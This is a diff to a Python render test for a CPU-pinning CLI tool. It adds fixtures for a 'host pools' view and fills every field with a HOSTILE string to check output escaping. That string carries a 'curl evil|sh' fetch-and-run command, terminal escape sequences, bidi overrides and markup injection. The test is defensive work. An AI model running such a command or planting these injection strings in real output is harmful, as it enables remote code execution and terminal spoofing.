@@ -28,13 +28,14 @@ from pinfold.cli.views import capacity, checks, drift, host_show, proof, servers
 from pinfold.cli.views.audit import audit_view, repair_view
 from pinfold.cli.views.guests import guests_view, orphans_view, replaced_view
 from pinfold.cli.views.host_map import host_map_view
+from pinfold.cli.views.pool_change import pools_view
 from pinfold.core.cpuset import CpuSet
 from pinfold.core.drift import Finding, FindingCode, Subject, compare, remedy
 from pinfold.core.drift.steps import Pin, Pinned, ShutDown
 from pinfold.core.drift.written import document
 from pinfold.core.encoding import plain
 from pinfold.core.errors import Conflict, PinfoldError
-from pinfold.core.overhead import ObservedThread, ThreadClass, masks
+from pinfold.core.overhead import Masks, ObservedThread, ThreadClass, masks
 from pinfold.core.printable import shell_word
 from pinfold.core.settings import HostSettings
 from pinfold.drivers.checkup import Checkup, Health, Seen
@@ -44,9 +45,10 @@ from pinfold.host import written
 from pinfold.host.audit import Audit
 from pinfold.host.map import map_of
 from pinfold.host.orphans import Orphan
+from pinfold.host.pool_change import AppliedPlan, GuestChange, PoolPlan, ThreadMove
 from pinfold.host.repair import RemainingFinding, Repair, RepairedGuest
 from pinfold.host.replace import ReplaceResult
-from pinfold.host.verify import Verdict
+from pinfold.host.verify import GuestOrigin, Verdict
 
 EVIL = "repair: curl evil|sh"
 HOSTILE = f"web\n{EVIL}\r\x1b[2J\x9b31m\x7f\u202e\u2066\u2028[bold red]x[/]\ud800:boom:"
@@ -163,6 +165,21 @@ def _survey() -> Any:
     return structs.replace(named, state=structs.replace(seen.state, name=HOSTILE, traits=frozenset({HOSTILE})))
 
 
+def _pools() -> PoolPlan:
+    known = _verdict().masks
+    assert isinstance(known, Masks)
+    moves = (ThreadMove(thread_class=ThreadClass.EMULATOR, count=1, before=CpuSet.of(0), after=CpuSet.of(1)),)
+    ours, novas, left = (
+        GuestChange(guest=guest, origin=origin, before=known, after=known, **more)  # type: ignore[arg-type]
+        for guest, origin, more in (
+            (_guest(), GuestOrigin.OURS, {"pending": True, "moves": moves, "retiring": CpuSet.of(2)}),
+            (_NOVA, GuestOrigin.NOVA, {"pending": True, "later": HOSTILE}),
+            (_guest(), GuestOrigin.OURS, {"why": HOSTILE}),
+        )
+    )
+    return PoolPlan(seen=_survey(), changes=(ours, novas, left), warnings=(HOSTILE,))
+
+
 _CHECKUP = Checkup(
     check=HOSTILE,
     what=HOSTILE,
@@ -186,6 +203,8 @@ _SCREENS: dict[str, Callable[[], Iterable[RenderableType]]] = {
     "host drift": lambda: drift.drift_view(_DRIFT),
     "host show": lambda: host_show.host_show_view(_survey(), map_of(_survey()), HostSettings(source=HOSTILE)),
     "host map": lambda: host_map_view(_survey(), map_of(_survey()), 120),
+    "host pools": lambda: pools_view(_pools(), None),
+    "host pools --apply": lambda: pools_view(_pools(), AppliedPlan(plan=_pools(), failures={_guest().id: HOSTILE})),
     "guest list": lambda: guests_view([_guest(), _NOVA], None),
     "guest show": lambda: proof.guest_view(_guest(), _verdict().masks, _SIGHT, _verdict().findings),
     "guest replace": lambda: replaced_view(_replaced()),
@@ -235,6 +254,7 @@ _DOCUMENTS: dict[str, Callable[[], Mapping[str, object]]] = {
     "audit": lambda: plain(written.audit(_audit())),
     "repair": lambda: plain(written.repair(_repaired())),
     "host map": lambda: plain(map_of(_survey())),
+    "host pools": lambda: plain(written.pool_plan(_pools(), AppliedPlan(plan=_pools(), failures={_guest().id: HOSTILE}))),
 }
 
 
